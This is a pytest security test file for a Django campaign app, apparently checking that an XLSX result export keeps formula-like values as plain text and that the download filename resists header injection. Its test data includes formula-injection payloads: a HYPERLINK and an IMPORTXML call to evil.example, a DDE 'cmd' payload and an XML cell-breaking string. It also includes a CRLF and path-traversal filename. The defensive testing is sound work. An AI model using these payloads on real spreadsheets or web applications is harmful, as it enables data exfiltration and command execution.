"""Formulas in the result (ASVS 1.2.10): what a spreadsheet would calculate stays a text."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaigns.models import Attempt, Campaign, Delivery
from tests.security.world import World

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '</t></is></c><c t="str"><f>1+1</f></c>',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_place_that_shows_foreign_text_stays_text(formula: str) -> None:
    world = World()
    book, relay = world.campaign.workbook, world.campaign.relay
    assert book is not None
    row = book.rows[0]
    row.sealed = book.data_key.seal_json({"name": formula, "values": [formula] * 4})
    row.save()
    book.columns = [{"name": formula, "letter": "A"}, *book.columns[1:]]
    book.save()
    delivery = world.delivery
    Delivery.objects.filter(pk=delivery.pk).update(
        row=row, address=formula, detail=formula, resolved_note=formula, reason=formula[:40]
    )
    Attempt.objects.create(
        team=world.team, delivery=delivery, relay=relay, started_at=delivery.changed_at,
        ended_at=delivery.changed_at, phase="content", outcome="refused", content_began=True,
        sealed_text=book.data_key.seal(formula.encode()),
    )  # fmt: skip
    relay.name = formula
    relay.save()
    Campaign.objects.filter(pk=world.campaign.pk).update(name=formula[:100])
    answer = world.client(user=world.hr).get(
        reverse("campaigns:campaign_result", args=[world.campaign.pk])
    )
    octets = b"".join(answer.streaming_content)
    assert octets.startswith(b"PK")
    with zipfile.ZipFile(io.BytesIO(octets)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert set(re.findall(r'<c [^>]*t="(\w+)"', sheet)) <= {"inlineStr", "s"}
    cells = [cell for line in load_workbook(io.BytesIO(octets)).active for cell in line]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    dangerous = [cell for cell in cells if str(cell.value or "").startswith(formula[:2])]
    assert len(dangerous) >= 6
    if not formula.startswith("<"):
        assert all(cell.quotePrefix for cell in dangerous)


def test_the_name_of_the_download_is_one_file_name() -> None:
    world = World()
    Campaign.objects.filter(pk=world.campaign.pk).update(
        name='../../x"; filename="evil.exe\r\nX-Evil: 1'
    )
    answer = world.client(user=world.hr).get(
        reverse("campaigns:campaign_result", args=[world.campaign.pk])
    )
    b"".join(answer.streaming_content)
    assert "X-Evil" not in answer.headers
    said = answer.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="[\w.\-]+\.xlsx"', said), said
